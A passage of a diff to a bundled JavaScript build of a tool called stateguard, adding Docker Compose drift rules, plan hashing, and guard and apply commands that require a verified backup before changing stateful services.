+ * dangerous for data as a major upgrade.
+ */
+function semverBump(from, to) {
+    const a = parseImageRef(from);
+    const b = parseImageRef(to);
+    if (a.repository !== b.repository)
+        return 'unknown';
+    const va = parseVersion(a.tag);
+    const vb = parseVersion(b.tag);
+    if (!va || !vb || a.digest || b.digest)
+        return 'unknown';
+    if (va[0] !== vb[0])
+        return 'major';
+    if (va[1] !== vb[1])
+        return 'minor';
+    if (va[2] !== vb[2])
+        return 'patch';
+    return 'unknown';
+}
+
+;// CONCATENATED MODULE: ./src/drift/rules.ts
+
+
+const CONTAINER_NUMBER = 'com.docker.compose.container-number';
+/** The service's containers that count: one-off `compose run` containers are ignored. */
+function serviceReplicas(containers) {
+    return containers
+        .filter((c) => !c.oneoff)
+        .sort((a, b) => {
+        const na = Number(a.labels[CONTAINER_NUMBER] ?? Number.MAX_SAFE_INTEGER);
+        const nb = Number(b.labels[CONTAINER_NUMBER] ?? Number.MAX_SAFE_INTEGER);
+        return na !== nb ? na - nb : a.id < b.id ? -1 : a.id > b.id ? 1 : 0;
+    });
+}
+/** `exited (1)`, `running`, `created`, … : the short state text used in drift items. */
+function stateText(c) {
+    return c.state === 'exited' || c.state === 'dead' ? `${c.state} (${c.exitCode ?? '?'})` : c.state;
+}
+function shortId(imageId) {
+    if (!imageId)
+        return 'not present on the engine';
+    return imageId.replace(/^sha256:/, '').slice(0, 12);
+}
+/** Describe which replicas show `values` (deterministic: sorted distinct values). */
+function replicaText(values, total) {
+    const distinct = [...new Set(values)].sort();
+    const base = distinct.join(', ');
+    return total > 1 ? `${base} [${values.length} of ${total} replicas]` : base;
+}
+const SEVERITY = ['running', 'dead', 'exited-nonzero', 'never-started', 'stale-config'];
+function oneShotReason(c, configHash) {
+    switch (c.state) {
+        // paused and restarting are runs still in progress: apply must not start a second one.
+        case 'running':
+        case 'paused':
+        case 'restarting':
+            return 'running';
+        case 'created':
+            return 'never-started';
+        case 'dead':
+        case 'removing':
+            return 'dead';
+        case 'exited':
+            if (c.exitCode !== 0)
+                return 'exited-nonzero';
+            // A missing label cannot prove the run used the current config: not a success of it.
+            return c.configHash === configHash ? null : 'stale-config';
+        default:
+            // An unknown state is not a proven success (fail closed).
+            return 'dead';
+    }
+}
+function imageDrift(replicas, declared) {
+    const want = normalizeImageRef(declared.image);
+    const refChanged = replicas.filter((c) => normalizeImageRef(c.imageRef) !== want);
+    if (refChanged.length > 0) {
+        const observedRefs = refChanged.map((c) => c.imageRef);
+        const bumps = new Set(observedRefs.map((r) => semverBump(r, declared.image)));
+        return {
+            key: 'container.image',
+            declared: declared.image,
+            observed: replicaText(observedRefs, replicas.length),
+            reason: 'reference-changed',
+            bump: bumps.size === 1 ? [...bumps][0] : 'unknown',
+        };
+    }
+    // Same reference: does the tag still point at the image the containers run?
+    const stale = replicas.filter((c) => declared.imageId === null || c.imageId !== declared.imageId);
+    if (stale.length > 0) {
+        return {
+            key: 'container.image',
+            declared: `${declared.image} (image ${shortId(declared.imageId)})`,
+            observed: replicaText(stale.map((c) => `${c.imageRef} (image ${shortId(c.imageId)})`), replicas.length),
+            // Without the image on the engine, `up` would pull whatever the tag means now: unknown, not in sync.
+            reason: declared.imageId === null ? 'image-not-present' : 'tag-repointed',
+            bump: 'unknown',
+        };
+    }
+    return null;
+}
+/** Drift items for one module, in the fixed key order of DRIFT_KEYS. */
+function computeDrift(module, containers, declared) {
+    const replicas = serviceReplicas(containers);
+    const items = [];
+    if (module.expectedState === 'running') {
+        if (replicas.length === 0) {
+            return [{ key: 'container.missing', declared: 'running', observed: 'missing' }];
+        }
+        const configDiff = replicas.filter((c) => c.configHash !== declared.configHash);
+        if (configDiff.length > 0) {
+            items.push({
+                key: 'container.config',
+                declared: `config ${declared.configHash.slice(0, 12)}`,
+                observed: replicaText(configDiff.map((c) => (c.configHash ? `config ${c.configHash.slice(0, 12)}` : 'no config-hash label')), replicas.length),
+            });
+        }
+        const notRunning = replicas.filter((c) => c.state !== 'running');
+        if (notRunning.length > 0) {
+            items.push({ key: 'container.state.running', declared: 'running', observed: replicaText(notRunning.map(stateText), replicas.length) });
+        }
+        // Health is judged on running replicas only: a stopped container's last health is history.
+        const unhealthy = replicas.filter((c) => c.state === 'running' && c.health === 'unhealthy');
+        if (unhealthy.length > 0) {
+            items.push({ key: 'container.health', declared: 'healthy', observed: replicaText(unhealthy.map(() => 'unhealthy'), replicas.length) });
+        }
+    }
+    if (replicas.length > 0) {
+        const image = imageDrift(replicas, declared);
+        if (image)
+            items.push(image);
+    }
+    if (module.expectedState === 'exited-success') {
+        if (replicas.length === 0) {
+            items.push({ key: 'container.state.exited_success', declared: 'exited (0)', observed: 'missing', reason: 'no-container' });
+        }
+        else {
+            const failing = replicas
+                .map((c) => ({ c, reason: oneShotReason(c, declared.configHash) }))
+                .filter((x) => x.reason !== null);
+            if (failing.length > 0) {
+                const worst = SEVERITY.find((r) => failing.some((f) => f.reason === r));
+                const shown = failing.filter((f) => f.reason === worst);
+                const observed = worst === 'stale-config' ? shown.map((f) => `${stateText(f.c)} under an older config`) : shown.map((f) => stateText(f.c));
+                items.push({
+                    key: 'container.state.exited_success',
+                    declared: 'exited (0)',
+                    observed: replicaText(observed, replicas.length),
+                    reason: worst,
+                });
+            }
+        }
+    }
+    return items;
+}
+/** The `observed` block of a module plan: the first replica (see ordering above), or `missing`. */
+function observeContainers(containers) {
+    const replicas = serviceReplicas(containers);
+    const first = replicas[0];
+    if (!first)
+        return { container_id: null, state: 'missing', exit_code: null, image: null, health: null };
+    const observed = {
+        container_id: first.id,
+        state: first.state,
+        exit_code: first.state === 'exited' || first.state === 'dead' ? first.exitCode : null,
+        image: first.imageRef || null,
+        health: first.health,
+    };
+    if (replicas.length > 1)
+        observed.replicas = replicas.length;
+    return observed;
+}
+
+;// CONCATENATED MODULE: ./src/drift/plan.ts
+/**
+ * Plan: every module's drift against the live engine (DESIGN §3).
+ *
+ * The engine is read per compose PROJECT, not per module: one `ps` + one `inspect` per project,
+ * one `config` + one `config --hash '*'` per (project, compose file), and one `image inspect` for
+ * every declared image. So 80 modules of one project cost the same processes as 10.
+ * The drift itself is decided by the pure rules in ./rules.ts.
+ */
+
+
+
+function renderKey(m) {
+    return JSON.stringify([m.compose.project, m.compose.path]);
+}
+function describeModules(ms) {
+    return ms.map((m) => `'${m.name}'`).join(', ');
+}
+/** Compose's default image name for a service that only has `build:`. */
+function builtImageName(flavor, project, service) {
+    return flavor === 'v2' ? `${project}-${service}` : `${project.replace(/[^a-z0-9]/gi, '').toLowerCase()}_${service}`;
+}
+async function planModules(modules, runtime, opts = {}) {
+    let selected = modules;
+    if (opts.only) {
+        const unknown = opts.only.filter((n) => !modules.some((m) => m.name === n));
+        if (unknown.length > 0) {
+            throw new UserError(`module ${unknown.map((n) => JSON.stringify(n)).join(', ')} is not declared; known modules: ${modules.map((m) => m.name).join(', ')}.`, { input: 'module', reason: 'module-not-found', exitCode: 1 });
+        }
+        selected = modules.filter((m) => opts.only.includes(m.name));
+    }
+    if (selected.length === 0) {
+        return { schema: 'stateguard/plan/v1', modules: [], summary: { modules: 0, drifted: 0 }, plan_hash: planHash([]) };
+    }
+    // Unreachable engine: fail here with the DOCKER_HOST/context message, before compose prints its own.
+    // The compose flavor probe needs no engine, so it runs meanwhile; the engine's error wins.
+    const [pinged, probed] = await Promise.allSettled([runtime.ping(), runtime.composeFlavor()]);
+    if (pinged.status === 'rejected')
+        throw pinged.reason;
+    if (probed.status === 'rejected')
+        throw probed.reason;
+    const projects = [...new Set(selected.map((m) => m.compose.project))];
+    const renderGroups = new Map();
+    for (const m of selected) {
+        const k = renderKey(m);
+        renderGroups.set(k, [...(renderGroups.get(k) ?? []), m]);
+    }
+    const [containerLists, renders] = await Promise.all([
+        Promise.all(projects.map((p) => runtime.listProjectContainers(p))),
+        Promise.all([...renderGroups.values()].map(async (group) => {
+            const first = group[0];
+            try {
+                return await runtime.renderProject({ project: first.compose.project, files: [first.compose.path] });
+            }
+            catch (err) {
+                if (err instanceof EnvironmentError)
+                    throw err;
+                throw new UserError(`compose cannot render ${first.compose.display} (project '${first.compose.project}') for module ${describeModules(group)}: ${errorMessage(err)}`, { reason: 'compose-error' });
+            }
+        })),
+    ]);
+    const containersByProject = new Map(projects.map((p, i) => [p, containerLists[i]]));
+    const renderByKey = new Map([...renderGroups.keys()].map((k, i) => [k, renders[i]]));
+    // Declared image and config hash per module; a service compose did not render is an error, never "in sync".
+    let flavor;
+    const declaredParts = [];
+    for (const m of selected) {
+        const rendered = renderByKey.get(renderKey(m));
+        const service = rendered.services[m.compose.service];
+        const hash = rendered.hashes[m.compose.service];
+        if (!service || !hash) {
+            throw new UserError(`compose did not render service '${m.compose.service}' of module '${m.name}' from ${m.compose.display} ` +
+                `(project '${m.compose.project}'${service ? '; no config hash for it' : ''}); check the service name and any profiles.`, { reason: 'compose-error' });
+        }
+        let image = typeof service.image === 'string' && service.image.trim() !== '' ? service.image.trim() : undefined;
+        if (!image) {
+            flavor ??= await runtime.composeFlavor();
+            image = builtImageName(flavor, m.compose.project, m.compose.service);
+        }
+        declaredParts.push({ image, configHash: hash });
+    }
+    const imageIds = await runtime.imageIds([...new Set(declaredParts.map((d) => d.image))]);
+    const planned = selected.map((m, i) => {
+        const part = declaredParts[i];
+        const declared = { ...part, imageId: imageIds[part.image] ?? null };
+        const containers = (containersByProject.get(m.compose.project) ?? []).filter((c) => c.service === m.compose.service);
+        const drift = computeDrift({ name: m.name, expectedState: m.expectedState }, containers, declared);
+        return {
+            name: m.name,
+            class: m.class,
+            expected_state: m.expectedState,
+            compose: { project: m.compose.project, service: m.compose.service, file: m.compose.display },
+            observed: observeContainers(containers),
+            drift,
+            in_sync: drift.length === 0,
+        };
+    });
+    return {
+        schema: 'stateguard/plan/v1',
+        modules: planned,
+        summary: { modules: planned.length, drifted: planned.filter((p) => !p.in_sync).length },
+        plan_hash: planHash(planned),
+    };
+}
+/** JSON with object keys sorted at every level: the same data always gives the same text. */
+function canonicalJson(value) {
+    if (Array.isArray(value))
+        return `[${value.map(canonicalJson).join(',')}]`;
+    if (value !== null && typeof value === 'object') {
+        const entries = Object.entries(value)
+            .filter(([, v]) => v !== undefined)
+            .sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0));
+        return `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${canonicalJson(v)}`).join(',')}}`;
+    }
+    return JSON.stringify(value);
+}
+function canonicalDrift(items) {
+    return [...items].sort((a, b) => (a.key < b.key ? -1 : a.key > b.key ? 1 : 0));
+}
+/**
+ * sha256 (hex) of the canonical JSON of every module's name and drift, modules sorted by name.
+ * Only structured drift goes in: observed container IDs, rendering and module order never change it.
+ */
+function planHash(modules) {
+    const canonical = [...modules]
+        .sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0))
+        .map((m) => ({ name: m.name, drift: canonicalDrift(m.drift) }));
+    return (0,external_node_crypto_.createHash)('sha256').update(canonicalJson(canonical)).digest('hex');
+}
+
 // EXTERNAL MODULE: ./node_modules/ajv/dist/2020.js
 var _2020 = __nccwpck_require__(2210);
 ;// CONCATENATED MODULE: ./schema/module.schema.json
 const module_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://stateguard.dev/schema/module.schema.json","title":"stateguard module","description":"One service of the platform, declared in modules/<name>/module.yaml beside its compose file.","type":"object","additionalProperties":false,"required":["apiVersion","kind","metadata","spec"],"properties":{"apiVersion":{"description":"Schema version of this file.","const":"stateguard/v1"},"kind":{"description":"Always Module.","const":"Module"},"metadata":{"description":"Who this module is.","type":"object","additionalProperties":false,"required":["name"],"properties":{"name":{"description":"Module name, unique across the repo (DNS label: lowercase letters, digits, hyphens; at most 63).","type":"string","pattern":"^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$"},"description":{"description":"One line for humans.","type":"string","maxLength":500}}},"spec":{"description":"What the module is and how stateguard treats it.","type":"object","additionalProperties":false,"required":["class","compose"],"properties":{"class":{"description":"stateless: applied freely. stateful: holds data. sidecar: a helper bound to a stateful module (e.g. an init job).","enum":["stateless","stateful","sidecar"]},"compose":{"description":"Where the service is declared.","type":"object","additionalProperties":false,"required":["file","project","service"],"properties":{"file":{"description":"Compose file, relative to this module.yaml.","type":"string","minLength":1},"project":{"description":"Compose project name.","type":"string","pattern":"^[a-z0-9][a-z0-9_-]*$"},"service":{"description":"Service name in the compose file.","type":"string","pattern":"^[a-zA-Z0-9][a-zA-Z0-9_.-]*$"}}},"runtime":{"description":"What the service looks like when it is in its declared state.","type":"object","additionalProperties":false,"properties":{"expected_state":{"description":"running (default): a long-running service. exited-success: a one-shot that must have run to exit 0 under the current config.","enum":["running","exited-success"],"default":"running"},"timeout_seconds":{"description":"How long apply waits for a one-shot to exit before stopping it.","type":"integer","minimum":1,"maximum":86400,"default":300}}},"backup":{"description":"Required for stateful and sidecar modules: which backups cover this module.","type":"object","additionalProperties":false,"required":["ref_modules","max_age_hours"],"properties":{"ref_modules":{"description":"Modules whose backups cover this one (a sidecar names its parent; a stateful module names itself).","type":"array","minItems":1,"uniqueItems":true,"items":{"type":"string","pattern":"^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$"}},"max_age_hours":{"description":"A backup older than this is refused.","type":"number","exclusiveMinimum":0,"maximum":8760}}},"data":{"description":"Where the module keeps data.","type":"object","additionalProperties":false,"properties":{"volumes":{"description":"Durable mounts that must survive a container recreate.","type":"array","items":{"type":"object","additionalProperties":false,"required":["volume","path"],"properties":{"volume":{"description":"Compose volume name.","type":"string","minLength":1},"path":{"description":"Absolute path inside the container.","type":"string","pattern":"^/"}}}},"ephemeral_paths":{"description":"Absolute paths expected NOT to survive a recreate.","type":"array","items":{"type":"string","pattern":"^/"}}}},"depends_on_healthy":{"description":"Modules that must still be running (and healthy) with unchanged container IDs after an apply.","type":"array","uniqueItems":true,"items":{"type":"string","pattern":"^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$"}}}}}}');
-// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
-var dist = __nccwpck_require__(8815);
 ;// CONCATENATED MODULE: ./src/model/yaml-source.ts
 /**
  * Safe YAML reading for untrusted files (module.yaml, compose files): size cap, strict UTF-8,
@@ -48685,15 +52114,15 @@ function findModuleFiles(root, glob, rootDisplay = root) {
         st = (0,external_node_fs_namespaceObject.statSync)(root);
     }
     catch {
-        throw new errors_UserError(`--root ${JSON.stringify(rootDisplay)} does not exist. Point --root at the platform repo checkout.`, {
+        throw new UserError(`--root ${JSON.stringify(rootDisplay)} does not exist. Point --root at the platform repo checkout.`, {
             input: 'root',
         });
     }
     if (!st.isDirectory()) {
-        throw new errors_UserError(`--root ${JSON.stringify(rootDisplay)} is not a directory. Point --root at the platform repo checkout.`, { input: 'root' });
+        throw new UserError(`--root ${JSON.stringify(rootDisplay)} is not a directory. Point --root at the platform repo checkout.`, { input: 'root' });
     }
     if (external_node_path_default().isAbsolute(glob) || glob.split('/').includes('..')) {
-        throw new errors_UserError(`--modules ${JSON.stringify(glob)} must be a relative glob inside --root (no '..').`, {
+        throw new UserError(`--modules ${JSON.stringify(glob)} must be a relative glob inside --root (no '..').`, {
             input: 'modules',
         });
     }
@@ -48823,7 +52252,7 @@ function dedupe(problems) {
         return true;
     });
 }
-function module_formatProblem(p) {
+function formatProblem(p) {
     return `${p.file}:${p.line}:${p.column}: ${p.message}`;
 }
 function sortProblems(problems) {
@@ -48947,7 +52376,7 @@ function readCompose(abs, display) {
     return { ok: true, services: services };
 }
 /** Schema + cross-file validation of every module under root. */
-function validate_validateModules(root, glob, displayBase) {
+function validateModules(root, glob, displayBase) {
     const loaded = loadModules(root, glob, displayBase);
     const problems = sortProblems([...loaded.problems, ...crossCheck(loaded, displayBase)]);
     return { loaded, problems };
@@ -48964,7 +52393,7 @@ function validate_validateModules(root, glob, displayBase) {
  * a repo whose declarations are broken would be acting on a guess.
  */
 function loadValidModules(opts, ctx) {
-    const root = path.resolve(ctx.cwd, opts.root);
+    const root = external_node_path_default().resolve(ctx.cwd, opts.root);
     const { loaded, problems } = validateModules(root, opts.modules, ctx.cwd);
     if (problems.length > 0) {
         throw new UserError(`module declarations are invalid (${problems.length} problem${problems.length === 1 ? '' : 's'}); ` +
@@ -48993,6 +52422,9995 @@ function cell(text) {
     return text.replace(/\|/g, '\\|').replace(/\r?\n/g, ' ');
 }
 
+;// CONCATENATED MODULE: ./src/commands/spec.ts
+function camel(name) {
+    return name.replace(/-([a-z0-9])/g, (_, c) => c.toUpperCase());
+}
+/** Helper so each command file gets its options typed from its own `inputs` literal. */
+function defineCommand(spec) {
+    return spec;
+}
+/** Inputs shared by the commands that read modules. */
+const ROOT_INPUT = {
+    name: 'root',
+    kind: 'string',
+    default: '.',
+    description: 'Directory of the platform repo; modules are found under it.',
+};
+const MODULES_INPUT = {
+    name: 'modules',
+    kind: 'string',
+    default: 'modules/*/module.yaml',
+    description: 'Glob (relative to root) that finds the module.yaml files.',
+};
+const JSON_INPUT = {
+    name: 'json',
+    kind: 'boolean',
+    default: 'false',
+    cliOnly: true,
+    description: 'Print exactly one JSON document on stdout (human text goes to stderr).',
+};
+const FAILURE_REASON_OUTPUT = {
+    name: 'failure-reason',
+    description: 'Empty on success; otherwise one of the documented failure reasons (see README).',
+};
+
+;// CONCATENATED MODULE: ./src/commands/guard.ts
+/** `stateguard guard`: the stateful-apply rule (DESIGN §4) on a fresh plan and a verified backup. */
+
+
+
+
+
+
+/** The guard's inputs, shared with apply (which re-runs the guard with the same inputs). */
+const GUARD_INPUTS = [
+    ROOT_INPUT,
+    MODULES_INPUT,
+    { name: 'module', kind: 'string', required: true, description: 'The module to decide on.' },
+    { name: 'allow-stateful', kind: 'boolean', default: 'false', description: "Must be exactly 'true' to change a stateful or sidecar module." },
+    { name: 'backup-ref', kind: 'string', description: 'Path of the backup (.tar.gz) that covers the module; verified with the verify-backup rules.' },
+    { name: 'backup-root', kind: 'list', description: 'Allowed backup directories (repeatable; one per line in the action). None means every backup is refused.' },
+    { name: 'confirm', kind: 'string', description: 'Must equal confirm-token exactly (case-sensitive). Never echoed.' },
+    { name: 'confirm-token', kind: 'string', default: 'BACKUP_DONE', description: 'The confirmation token this repo uses.' },
+    { name: 'max-uncompressed-bytes', kind: 'size', default: '64G', description: 'verify-backup cap: reject the backup past this many uncompressed bytes.' },
+    { name: 'max-entries', kind: 'integer', default: '1000000', description: 'verify-backup cap: reject the backup past this many entries.' },
+];
+/** Reasons that mean "could not evaluate" (exit 3) rather than "no" (exit 1). */
+const COULD_NOT_RUN = ['docker-unavailable', 'compose-error', 'internal'];
+function guardExitCode(r) {
+    if (r.decision === 'allowed' || r.decision === 'no-op')
+        return errors_ExitCode.ok;
+    return r.failure_reason !== '' && COULD_NOT_RUN.includes(r.failure_reason) ? errors_ExitCode.couldNotRun : errors_ExitCode.no;
+}
+function guardText(r) {
+    const head = `guard ${r.module}: ${r.decision}${r.drift_keys.length ? ` (drift: ${r.drift_keys.join(', ')})` : ''}`;
+    if (r.decision !== 'blocked')
+        return head;
+    return [head, `failure-reason: ${r.failure_reason}`, ...r.reasons.map((x, i) => `  ${i + 1}. [${x.code}] ${x.message}\n     fix: ${x.fix}`)].join('\n');
+}
+function guardSummary(r) {
+    const icon = r.decision === 'blocked' ? '⛔' : r.decision === 'no-op' ? '✅' : '🟢';
+    const lines = [`### ${icon} stateguard guard: \`${r.module}\` is ${r.decision}`, ''];
+    if (r.drift_keys.length)
+        lines.push(`Drift: ${r.drift_keys.map((k) => `\`${k}\``).join(', ')}`, '');
+    if (r.backup)
+        lines.push(`Backup: ${r.backup.verified ? 'verified' : 'not verified'}${r.backup.path ? ` (\`${cell(r.backup.path)}\`)` : ''}`, '');
+    if (r.reasons.length) {
+        lines.push('| # | reason | what failed | how to fix |', '|---|---|---|---|');
+        r.reasons.forEach((x, i) => lines.push(`| ${i + 1} | \`${x.code}\` | ${cell(x.message)} | ${cell(x.fix)} |`));
+        lines.push('', `failure-reason: \`${r.failure_reason}\``);
+    }
+    return lines.join('\n');
+}
+const guardCommand = defineCommand({
+    name: 'guard',
+    title: 'stateguard guard',
+    description: 'Decide whether a module may be applied: allowed, no-op or blocked, with every reason.',
+    inputs: [...GUARD_INPUTS, JSON_INPUT],
+    outputs: [
+        { name: 'decision', description: 'allowed, no-op or blocked.' },
+        { name: 'reasons', description: 'JSON array of every failed condition: {code, message, fix, input}.' },
+        { name: 'plan-hash', description: "plan_hash of the module's fresh plan (what apply's expected-plan-hash compares with)." },
+        FAILURE_REASON_OUTPUT,
+    ],
+    async run(opts, ctx) {
+        const set = loadValidModules(opts, ctx);
+        const module = pickModule(set, opts.module);
+        const ev = await evaluateGuard({
+            modules: set.modules,
+            module,
+            allowStateful: opts.allowStateful,
+            confirm: opts.confirm,
+            confirmToken: opts.confirmToken,
+            backupRef: opts.backupRef,
+            backupRoots: opts.backupRoot,
+            cwd: ctx.cwd,
+            now: ctx.now(),
+            maxUncompressedBytes: opts.maxUncompressedBytes,
+            maxEntries: opts.maxEntries,
+        }, { runtime: ctx.runtime(), planModules: planModules, planHash: planHash, verifyBackup: verifyBackup });
+        const r = ev.result;
+        const exitCode = guardExitCode(r);
+        return {
+            exitCode,
+            json: { ...r, plan_hash: ev.planHash },
+            text: guardText(r),
+            outputs: {
+                decision: r.decision,
+                reasons: JSON.stringify(r.reasons),
+                'plan-hash': ev.planHash ?? '',
+                'failure-reason': r.failure_reason,
+            },
+            summary: guardSummary(r),
+            annotations: r.reasons.map((x) => ({ level: 'error', title: `stateguard guard: ${x.code}`, message: `${x.message} — fix: ${x.fix}` })),
+            failureReason: r.failure_reason === '' ? undefined : r.failure_reason,
+        };
+    },
+});
+
+;// CONCATENATED MODULE: ./src/commands/apply.ts
+/** `stateguard apply`: re-run a one-shot module under a lock, after a fresh plan and guard (DESIGN §6). */
+
+
+
+
+
+
+
+
+
+function applyExitCode(o) {
+    if (o.status === 'applied' || o.status === 'no-op')
+        return errors_ExitCode.ok;
+    return o.could_not_run ? errors_ExitCode.couldNotRun : errors_ExitCode.no;
+}
+function applySummary(o) {
+    const icon = o.status === 'applied' || o.status === 'no-op' ? '✅' : '⛔';
+    const lines = [`### ${icon} stateguard apply: \`${o.module}\` ${o.status}`, ''];
+    if (o.failure_reason)
+        lines.push(`failure-reason: \`${o.failure_reason}\``, '');
+    lines.push('| | |', '|---|---|');
+    if (o.exit_code !== null)
+        lines.push(`| exit code | ${o.exit_code} |`);
+    if (o.container_id)
+        lines.push(`| container | \`${o.container_id.slice(0, 12)}\` |`);
+    if (o.duration_ms !== null)
+        lines.push(`| duration | ${o.duration_ms} ms |`);
+    if (o.plan_hash)
+        lines.push(`| plan hash | \`${o.plan_hash}\` |`);
+    if (o.lock)
+        lines.push(`| lock | \`${o.lock.name}\` |`);
+    if (o.lock_refusal)
+        lines.push(`| held by | ${cell(o.lock_refusal.holder)} since ${cell(o.lock_refusal.since)} |`);
+    for (const d of o.dependencies)
+        lines.push(`| depends_on_healthy \`${d.module}\` | ${d.ok ? 'unchanged' : `**${cell(d.problem ?? 'disturbed')}**`} |`);
+    lines.push('', ...o.messages.map((m) => `- ${cell(m)}`));
+    if (o.guard && o.guard.decision === 'blocked') {
+        lines.push('', '| # | reason | what failed | how to fix |', '|---|---|---|---|');
+        o.guard.reasons.forEach((x, i) => lines.push(`| ${i + 1} | \`${x.code}\` | ${cell(x.message)} | ${cell(x.fix)} |`));
+    }
+    for (const w of o.warnings)
+        lines.push('', `> ⚠️ ${cell(w)}`);
+    if (o.log_tail.length) {
+        // Lines are already scrubbed; a fence that cannot be closed by log content.
+        lines.push('', `<details><summary>last ${o.log_tail.length} log lines</summary>`, '', '~~~~~~~~text', ...o.log_tail.map((l) => l.replace(/~{8,}/g, '~')), '~~~~~~~~', '</details>');
+    }
+    return lines.join('\n');
+}
+const applyCommand = defineCommand({
+    name: 'apply',
+    title: 'stateguard apply',
+    description: 'Re-run a one-shot module until it exits 0, under a lock, after a fresh plan and guard.',
+    inputs: [
+        ...GUARD_INPUTS,
+        { name: 'expected-plan-hash', kind: 'string', description: 'plan_hash of the reviewed plan (stateguard plan --module NAME); refuse (plan-changed) when the fresh plan differs.' },
+        { name: 'break-stale-lock', kind: 'boolean', default: 'false', description: "Exactly 'true' removes a stale apply lock (older than the stale bound) before taking it. Make sure no apply is running." },
+        { name: 'lock-stale-after-minutes', kind: 'integer', default: '120', description: 'A lock older than this (and older than timeout_seconds + 10 min) counts as stale.' },
+        JSON_INPUT,
+    ],
+    outputs: [
+        { name: 'status', description: 'applied, no-op, blocked, refused or failed.' },
+        { name: 'exit-code', description: "The one-shot's exit code ('' when it did not run or was stopped)." },
+        { name: 'container-id', description: 'ID of the container that ran.' },
+        { name: 'duration-ms', description: 'How long the run took.' },
+        { name: 'plan-hash', description: "plan_hash of the module's fresh plan." },
+        FAILURE_REASON_OUTPUT,
+    ],
+    async run(opts, ctx) {
+        const set = loadValidModules(opts, ctx);
+        const module = pickModule(set, opts.module);
+        if (opts.expectedPlanHash !== undefined && !/^[0-9a-f]{64}$/.test(opts.expectedPlanHash)) {
+            throw new UserError(`${ctx.inAction ? "input 'expected-plan-hash'" : '--expected-plan-hash'} must be a plan_hash (64 lowercase hex characters) as printed by stateguard plan --module ${module.name}, got ${JSON.stringify(opts.expectedPlanHash.slice(0, 80))}.`, { input: 'expected-plan-hash' });
+        }
+        const o = await applyOneShot({
+            modules: set.modules,
+            module,
+            allowStateful: opts.allowStateful,
+            confirm: opts.confirm,
+            confirmToken: opts.confirmToken,
+            backupRef: opts.backupRef,
+            backupRoots: opts.backupRoot,
+            cwd: ctx.cwd,
+            now: ctx.now(),
+            maxUncompressedBytes: opts.maxUncompressedBytes,
+            maxEntries: opts.maxEntries,
+            expectedPlanHash: opts.expectedPlanHash,
+            breakStaleLock: opts.breakStaleLock,
+            staleAfterMs: opts.lockStaleAfterMinutes * 60_000,
+            holder: describeHolder(ctx.env, (0,external_node_os_namespaceObject.hostname)(), process.pid),
+        }, {
+            runtime: ctx.runtime(),
+            planModules: planModules,
+            planHash: planHash,
+            verifyBackup: verifyBackup,
+            log: ctx.log,
+            addSecret: (v) => ctx.addSecret(v),
+            now: () => ctx.now(),
+        });
+        const text = [
+            // The action layer appends the failure reason to the first line itself.
+            `apply ${o.module}: ${o.status}`,
+            ...(o.failure_reason ? [`failure-reason: ${o.failure_reason}`] : []),
+            ...(o.guard && o.guard.decision === 'blocked' ? [guardText(o.guard)] : []),
+            `  ${o.verdict}`,
+        ].join('\n');
+        return {
+            exitCode: applyExitCode(o),
+            json: o,
+            text,
+            outputs: {
+                status: o.status,
+                'exit-code': o.exit_code === null ? '' : String(o.exit_code),
+                'container-id': o.container_id ?? '',
+                'duration-ms': o.duration_ms === null ? '' : String(o.duration_ms),
+                'plan-hash': o.plan_hash ?? '',
+                'failure-reason': o.failure_reason,
+            },
+            summary: applySummary(o),
+            annotations: o.failure_reason
+                ? [{ level: 'error', title: `stateguard apply: ${o.failure_reason}`, message: o.verdict || o.status }]
+                : [],
+            failureReason: o.failure_reason === '' ? undefined : o.failure_reason,
+        };
+    },
+});
+
+;// CONCATENATED MODULE: ./src/probe/gate.ts
+/**
+ * The e2e gate's decision (DESIGN §8), pure: from the environment's *names* to run / skip / refuse.
+ *
+ * It never returns, formats or compares a variable's value beyond classifying it, so no value can
+ * leak through a reason. Ambiguity is never "on": a switch that is neither clearly on nor clearly
+ * off is refused, so a typo such as `STAGING_E2E=ture` cannot silently run — or silently skip — a
+ * staging suite.
+ */
+/** Portable environment variable names: what every shell and runner accepts. */
+const ENV_NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;
+const ON_VALUES = ['1', 'true'];
+const OFF_VALUES = ['0', 'false'];
+function readSwitch(env, name) {
+    const v = env[name];
+    if (v === undefined)
+        return { kind: 'off', why: 'unset' };
+    if (v === '')
+        return { kind: 'off', why: 'empty' };
+    if (OFF_VALUES.includes(v))
+        return { kind: 'off', why: 'off-value' };
+    if (ON_VALUES.includes(v))
+        return { kind: 'on' };
+    return { kind: 'ambiguous' };
+}
+/** Required names that are unset, empty or only whitespace (a blank value configures nothing). */
+function missingVariables(env, names) {
+    return names.filter((n) => (env[n] ?? '').trim() === '');
+}
+function describeSwitchOff(name, why) {
+    switch (why) {
+        case 'unset':
+            return `${name} is not set`;
+        case 'empty':
+            return `${name} is empty`;
+        case 'off-value':
+            return `${name} is switched off (set to 0 or false)`;
+    }
+}
+function decideGate(input) {
+    const { switchName, switchState, missing, mode } = input;
+    const how = `set ${switchName}=1 (or true) to run it`;
+    if (switchState.kind === 'ambiguous') {
+        return {
+            action: 'refuse',
+            reason: `${switchName} is set to a value that is neither on (1, true) nor off (unset, empty, 0, false); ` +
+                `the value is not shown. An ambiguous switch is never taken as on: set it to exactly 1/true or 0/false.`,
+        };
+    }
+    if (switchState.kind === 'off') {
+        return {
+            action: 'skip',
+            cause: 'switch-off',
+            failInRequiredMode: mode === 'required',
+            reason: `${describeSwitchOff(switchName, switchState.why)}; ${how}.`,
+        };
+    }
+    if (missing.length > 0) {
+        return {
+            action: 'skip',
+            cause: 'missing-variables',
+            failInRequiredMode: mode === 'required',
+            reason: `${switchName} is on, but ${missing.length} required variable${missing.length === 1 ? ' is' : 's are'} missing or empty: ` +
+                `${missing.join(', ')}. Set ${missing.length === 1 ? 'it' : 'them'} (e.g. from repository secrets via env:) to run the gate.`,
+        };
+    }
+    return { action: 'run' };
+}
+
+;// CONCATENATED MODULE: ./src/probe/tar.ts
+/**
+ * The two tiny tar archives the persistence probe needs, in memory: one regular file to feed
